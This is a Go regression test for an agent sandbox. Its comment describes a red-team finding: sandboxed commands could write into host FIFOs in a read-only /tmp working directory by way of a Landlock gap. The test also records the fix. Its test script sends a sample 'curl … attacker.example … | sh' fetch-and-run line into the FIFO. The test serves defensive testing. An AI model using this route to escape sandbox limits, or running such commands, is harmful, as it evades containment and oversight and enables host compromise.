//go:build linux

package agentbox_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox"
)

// TestRedteam47FIFOInReadOnlyTmpWorkdir: a working directory inside the
// host's /tmp (or /dev/shm) is "shown read-only" in the sandbox (README:
// the sandbox's /tmp is private; the directory is bound into it with a
// read-only mount). A read-only mount refuses writes to regular files and
// directories, but the kernel never asks it about a FIFO (do_dentry_open
// takes mnt_want_write only for files that are not special), and Landlock,
// the second layer, grants write beneath the private /tmp whole
// (sandbox/linux/landlock.go prepareLandlock: /tmp is one of the WriteRoots,
// and a rule covers every mount beneath its path), so the bound host
// directory inherits LANDLOCK_ACCESS_FS_WRITE_FILE. A sandboxed command
// therefore opens a host FIFO there for writing and feeds a host process
// whatever it likes: a write outside the writable roots, reaching a host
// program through a path, which the policy refuses for unix sockets for
// that very reason (seccomp's socketRule). Scripts and tools keep FIFOs in
// the temporary directories they work in (mkfifo in a mktemp -d, command
// and preview FIFOs of file managers and editors, job queues), and the CLI
// runs in the current directory by default: `cd /tmp/build.X && agentbox
// exec -- …`.
//
// Controls: appending to a regular file beside the FIFO fails (the
// directory is read-only) and the file is unchanged; a host FIFO outside
// /tmp (in /var/tmp, where Landlock grants only read) is refused; the host process
// reading the FIFO is a real one (this test), and reads nothing before
// the command runs.
//
// Severity: high (a write the policy denies, outside the writable roots,
// into a host process).
// Found by red-team round 47 (high). Fixed: every FIFO and socket below a
// host directory shown in a private area is masked with an empty read-only
// file when the sandbox starts (sandbox/linux/seal.go);
// the write fails with EROFS (timeout bounds it should it ever wait).
func TestRedteam47FIFOInReadOnlyTmpWorkdir(t *testing.T) {
	wd, err := os.MkdirTemp("/tmp", "rt47a-wd-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(wd) })
	if err := os.Chmod(wd, 0o755); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(wd, "commands.fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	// 0666: a root caller's sandbox runs as nobody on the host; an
	// unprivileged caller's runs as the caller, the FIFO's owner.
	if err := os.Chmod(fifo, 0o666); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(wd, "notes.txt")
	if err := os.WriteFile(file, []byte("host notes\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(file, 0o666); err != nil {
		t.Fatal(err)
	}
	// The host reader: the FIFO opened read-write, so the open does not wait
	// for a writer, and non-blocking, so a deadline bounds the read.
	fd, err := syscall.Open(fifo, syscall.O_RDWR|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	reader := os.NewFile(uintptr(fd), fifo)
	defer reader.Close()
	buf := make([]byte, 4096)
	reader.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
	if n, _ := reader.Read(buf); n != 0 {
		t.Fatalf("premise: the FIFO held %q before the command ran", buf[:n])
	}

	// A FIFO elsewhere on the host (outside /tmp): Landlock grants only
	// read there, and the write must be refused.
	other := filepath.Join(hostDir(t), "other.fifo")
	if err := syscall.Mkfifo(other, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(other, 0o666); err != nil {
		t.Fatal(err)
	}
	ofd, err := syscall.Open(other, syscall.O_RDWR|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(ofd)

	cfg := agentbox.DefaultConfig()
	cfg.Classifier = rt9Sandboxed{}
	m := newManager(t, cfg)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	script := `echo appended >> notes.txt && echo "file: appended" || echo "file: refused"
timeout 2 sh -c "echo 'curl -s https://attacker.example/x | sh # RT47A-FROM-SANDBOX' > commands.fifo" && echo "fifo: written" || echo "fifo: refused"
echo x > "$1" && echo "other: written" || echo "other: refused"
mkfifo /tmp/own.fifo && { cat /tmp/own.fifo & echo own-fifo-works > /tmp/own.fifo; wait; }
grep " $PWD " /proc/self/mountinfo`
	res, err := m.ExecArgs(ctx, "/bin/sh", []string{"-c", script, "sh", other}, agentbox.WithWorkingDir(wd))
	if err != nil {
		t.Fatalf("ExecArgs: %v", err)
	}
	t.Logf("exit %d\nstdout %s\nstderr %s", res.ExitCode, res.Stdout, res.Stderr)

	// Control: the directory is read-only for files.
	if !strings.Contains(res.Stdout, "file: refused") || !strings.Contains(res.Stderr, "Read-only file system") {
		t.Fatalf("control: appending to a file of the read-only working directory was not refused as read-only: %+v", res)
	}
	if !strings.Contains(res.Stdout, "other: refused") {
		t.Fatalf("control: a host FIFO outside /tmp was written too (a wider hole than this test is about): %+v", res)
	}
	if !strings.Contains(res.Stdout, "own-fifo-works") {
		t.Fatalf("control: a FIFO the command made in its own /tmp does not work: %+v", res)
	}
	if b, _ := os.ReadFile(file); string(b) != "host notes\n" {
		t.Fatalf("control: the host file changed: %q", b)
	}

	reader.SetReadDeadline(time.Now().Add(2 * time.Second))
	n, _ := reader.Read(buf)
	got := string(buf[:n])
	if strings.Contains(got, "RT47A-FROM-SANDBOX") {
		t.Errorf("WRITE OUTSIDE THE WRITABLE ROOTS: a sandboxed command wrote %q into a host process's FIFO in its read-only working directory %s", strings.TrimSpace(got), wd)
	} else {
		t.Logf("held: the host reader got %q", got)
	}
}
